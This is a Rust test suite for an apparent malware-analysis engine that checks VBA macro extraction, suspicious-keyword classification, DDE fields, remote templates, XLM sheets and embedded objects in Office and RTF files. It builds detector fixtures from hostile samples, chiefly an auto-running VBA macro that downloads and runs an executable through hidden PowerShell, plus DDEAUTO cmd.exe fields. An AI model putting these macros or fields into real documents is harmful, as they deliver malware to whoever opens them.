//! Office documents: VBA extraction and classification, XLM, DDE, remote templates, embedded
//! objects, encryption, RTF objects. Fixtures are built here (`common/office.rs`).

#[path = "common/office.rs"]
mod build;

use analysis::{Engine, Input, Limits};
use model::Report;
use model::report::OfficeInfo;

fn analyze(name: &str, data: &[u8]) -> Report {
    Engine::with_defaults().analyze_object(Some(name), data, &Input::default())
}

fn office(r: &Report, index: usize) -> &OfficeInfo {
    r.artifacts[index]
        .office
        .as_ref()
        .unwrap_or_else(|| panic!("artifact {index} has no office info: {r:#?}"))
}

fn signals(r: &Report) -> Vec<&str> {
    r.findings.iter().map(|f| f.signal.as_str()).collect()
}

const DROPPER: &str = r#"Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
    Dim s As String
    s = "powershell -w hidden -c iwr http://203.0.113.7/payload.exe -OutFile x.exe"
    CreateObject("WScript.Shell").Run s, 0
End Sub
"#;

const HARMLESS: &str =
    "Attribute VB_Name = \"Module1\"\nFunction Add(a, b)\n    Add = a + b\nEnd Function\n";

#[test]
fn doc_macro_source_is_extracted_and_classified_like_mraptor() {
    let data = build::doc_with_macros(&[("ThisDocument", DROPPER)]);
    let r = analyze("invoice.doc", &data);
    assert_eq!(r.artifacts[0].kind, "ole-doc");
    let info = office(&r, 0);
    assert_eq!(info.vba.len(), 1);
    assert_eq!(info.vba[0].name, "ThisDocument");
    assert_eq!(info.vba[0].stream, "Macros/VBA/ThisDocument");
    assert!(
        info.vba[0]
            .code
            .contains("CreateObject(\"WScript.Shell\").Run s, 0")
    );
    assert_eq!(info.mraptor, "A-X");
    assert_eq!(info.mraptor_result, "suspicious");
    let s = signals(&r);
    for expected in [
        "office.macro",
        "office.macro.autoexec",
        "office.macro.execute",
        "office.macro.suspicious",
    ] {
        assert!(s.contains(&expected), "{expected} missing from {s:?}");
    }
    assert!(!s.contains(&"office.macro.write"));
}

#[test]
fn macro_keywords_use_olevba_vocabulary() {
    let data = build::doc_with_macros(&[("ThisDocument", DROPPER)]);
    let r = analyze("invoice.doc", &data);
    let info = office(&r, 0);
    let has = |kind: &str, kw: &str| {
        info.keywords
            .iter()
            .any(|k| k.kind == kind && k.keyword.eq_ignore_ascii_case(kw))
    };
    assert!(has("AutoExec", "AutoOpen"));
    assert!(has("Suspicious", "CreateObject"));
    assert!(has("Suspicious", "WScript.Shell"));
    assert!(has("Suspicious", "powershell"));
    assert!(has("IOC", "http://203.0.113.7/payload.exe"));
    assert!(has("IOC", "x.exe"));
}

#[test]
fn urls_in_vba_code_reach_the_report() {
    let data = build::doc_with_macros(&[("ThisDocument", DROPPER)]);
    let r = analyze("invoice.doc", &data);
    assert!(
        r.urls
            .iter()
            .any(|u| u.url.contains("203.0.113.7/payload.exe")),
        "{:?}",
        r.urls
    );
}

#[test]
fn harmless_macro_is_macro_ok() {
    let data = build::doc_with_macros(&[("Module1", HARMLESS)]);
    let r = analyze("calc.doc", &data);
    let info = office(&r, 0);
    assert_eq!(info.mraptor, "---");
    assert_eq!(info.mraptor_result, "macro-ok");
    let s = signals(&r);
    assert!(s.contains(&"office.macro"));
    assert!(!s.contains(&"office.macro.autoexec"));
    assert!(!s.contains(&"office.macro.suspicious"));
}

#[test]
fn writing_macro_sets_the_w_flag() {
    let code = "Sub Workbook_Open()\n  Open \"C:\\x.bat\" For Output As #1\n  Print #1, \"calc\"\n  Close #1\nEnd Sub\n";
    let data = build::doc_with_macros(&[("ThisWorkbook", code)]);
    let info = office(&analyze("w.doc", &data), 0).clone();
    assert_eq!(info.mraptor, "AW-");
    assert_eq!(info.mraptor_result, "suspicious");
}

#[test]
fn long_module_spanning_several_chunks_round_trips() {
    let mut code = String::from("Sub Document_Open()\n");
    for i in 0..2000 {
        code.push_str(&format!("  x = x + {i} ' padding line\n"));
    }
    code.push_str("  Shell \"cmd /c calc\"\nEnd Sub\n");
    let data = build::doc_with_macros(&[("ThisDocument", &code)]);
    let info = office(&analyze("big.doc", &data), 0).clone();
    assert!(info.vba[0].code.ends_with("End Sub\r\n"));
    assert!(!info.vba[0].truncated);
    assert_eq!(info.mraptor, "A-X");
}

#[test]
fn module_code_is_cut_to_the_limit_but_analysed_whole() {
    let limits = Limits {
        max_vba_code_bytes: 64,
        ..Limits::default()
    };
    let engine = Engine::new(analysis::EngineConfig {
        limits,
        ..Default::default()
    })
    .expect("engine");
    let data = build::doc_with_macros(&[("ThisDocument", DROPPER)]);
    let r = engine.analyze_object(Some("x.doc"), &data, &Input::default());
    let info = office(&r, 0);
    assert!(info.vba[0].code.len() <= 64);
    assert!(info.vba[0].truncated);
    assert_eq!(info.mraptor_result, "suspicious");
}

#[test]
fn docm_vba_project_is_found() {
    let data = build::docm(&[("ThisDocument", DROPPER), ("Module1", HARMLESS)]);
    let r = analyze("invoice.docm", &data);
    assert_eq!(r.artifacts[0].kind, "ooxml-word");
    let info = office(&r, 0);
    let names: Vec<&str> = info.vba.iter().map(|m| m.name.as_str()).collect();
    assert_eq!(names, ["ThisDocument", "Module1"]);
    assert_eq!(info.mraptor_result, "suspicious");
}

#[test]
fn remote_template_is_an_external_target_and_hyperlink_is_not() {
    let data = build::docx_remote_template("http://198.51.100.4/tpl.dotm");
    let r = analyze("cv.docx", &data);
    let info = office(&r, 0);
    assert_eq!(info.external_targets, ["http://198.51.100.4/tpl.dotm"]);
    let f: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.signal == "office.external-target")
        .collect();
    assert_eq!(f.len(), 1, "{f:?}");
    assert!(f[0].detail.contains("attachedTemplate"));
    assert!(
        r.urls
            .iter()
            .any(|u| u.url.contains("198.51.100.4/tpl.dotm"))
    );
}

#[test]
fn ddeauto_field_split_over_runs_is_found() {
    let data = build::docx_dde(
        " DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ",
        "\"/k calc.exe\" ",
    );
    let r = analyze("dde.docx", &data);
    let info = office(&r, 0);
    assert_eq!(info.dde.len(), 1, "{info:?}");
    assert!(info.dde[0].starts_with("DDEAUTO c:"));
    assert!(info.dde[0].contains("/k calc.exe"));
    assert!(signals(&r).contains(&"office.dde"));
}

#[test]
fn dde_field_in_binary_word_document_is_found() {
    let data = build::doc_with_field("DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"", false);
    let r = analyze("dde.doc", &data);
    let info = office(&r, 0);
    assert_eq!(
        info.dde,
        ["DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\""]
    );
}

#[test]
fn ordinary_fields_are_not_dde() {
    let data = build::doc_with_field("PAGE \\* MERGEFORMAT", false);
    let r = analyze("page.doc", &data);
    assert!(office(&r, 0).dde.is_empty());
    assert!(!signals(&r).contains(&"office.dde"));
    assert_eq!(office(&r, 0).mraptor_result, "no-macro");
}

#[test]
fn encrypted_word_binary_is_flagged() {
    let data = build::doc_with_field("PAGE", true);
    let r = analyze("locked.doc", &data);
    assert!(office(&r, 0).encrypted);
    assert!(signals(&r).contains(&"office.encrypted"));
}

#[test]
fn xls_macro_sheet_is_excel4() {
    let data = build::xls_with_macro_sheet(false);
    let r = analyze("book.xls", &data);
    assert_eq!(r.artifacts[0].kind, "ole-xls");
    assert!(office(&r, 0).xlm_macros);
    let f = r
        .findings
        .iter()
        .find(|f| f.signal == "office.xlm")
        .expect("xlm finding");
    assert!(
        f.detail.contains("Macro1") && f.detail.contains("hidden"),
        "{}",
        f.detail
    );
}

#[test]
fn xls_filepass_is_encrypted() {
    let data = build::xls_with_macro_sheet(true);
    assert!(office(&analyze("book.xls", &data), 0).encrypted);
}

#[test]
fn encrypted_ooxml_container_is_flagged() {
    let data = build::encrypted_ooxml();
    let r = analyze("locked.docx", &data);
    assert!(office(&r, 0).encrypted);
    assert!(signals(&r).contains(&"office.encrypted"));
}

#[test]
fn docx_embedded_package_is_extracted_two_levels_down() {
    let payload = b"WScript.Echo \"hello\"\r\n";
    let data = build::docx_embedded_package("invoice.vbs", payload);
    let r = analyze("doc.docx", &data);
    assert!(signals(&r).contains(&"office.embedded-object"));
    let script = r
        .artifacts
        .iter()
        .find(|a| a.name.as_deref() == Some("invoice.vbs"))
        .unwrap_or_else(|| panic!("no extracted file: {:#?}", r.artifacts));
    assert_eq!(script.size, payload.len() as u64);
    assert_eq!(script.depth, 2);
    let ole = &r.artifacts[script.parent.expect("parent") as usize];
    assert_eq!(ole.name.as_deref(), Some("oleObject1.bin"));
    assert_eq!(
        ole.office.as_ref().expect("ole info").embedded_objects,
        ["invoice.vbs"]
    );
}

#[test]
fn rtf_package_object_is_extracted_despite_obfuscated_hex() {
    let payload = b"@echo off\r\nstart calc\r\n";
    let native = build::package_native("run.bat", payload);
    let data = build::rtf_object("Package", &native, " {\\*\\junk 0f0f} \r\n\\-");
    let r = analyze("doc.rtf", &data);
    assert_eq!(r.artifacts[0].kind, "rtf");
    assert_eq!(office(&r, 0).embedded_objects, ["Package"]);
    let bat = r
        .artifacts
        .iter()
        .find(|a| a.name.as_deref() == Some("run.bat"))
        .unwrap_or_else(|| panic!("no extracted file: {:#?}", r.artifacts));
    assert_eq!(bat.size, payload.len() as u64);
}

#[test]
fn rtf_equation_object_is_flagged() {
    let data = build::rtf_object("Equation.3", &[0x1C, 0, 0, 0, 2, 0, 0x9E, 0xC4], "\n");
    let r = analyze("eq.rtf", &data);
    assert!(signals(&r).contains(&"rtf.equation-editor"));
    assert!(signals(&r).contains(&"office.embedded-object"));
}

#[test]
fn truncated_and_garbage_documents_do_not_panic() {
    let docs = [
        build::doc_with_macros(&[("ThisDocument", DROPPER)]),
        build::docm(&[("ThisDocument", DROPPER)]),
        build::xls_with_macro_sheet(false),
        build::rtf_object("Package", &build::package_native("a.exe", b"MZ"), ""),
    ];
    for doc in &docs {
        for cut in [8usize, 100, 513, 1500, doc.len() / 2, doc.len() - 1] {
            let part = &doc[..cut.min(doc.len())];
            let r = analyze("x.doc", part);
            assert!(
                r.anomalies
                    .iter()
                    .all(|a| a.kind != model::AnomalyKind::ParserPanic)
            );
        }
        let mut flipped = doc.clone();
        for i in (0..flipped.len()).step_by(97) {
            flipped[i] ^= 0xA5;
        }
        let r = analyze("x.doc", &flipped);
        assert!(
            r.anomalies
                .iter()
                .all(|a| a.kind != model::AnomalyKind::ParserPanic)
        );
    }
}
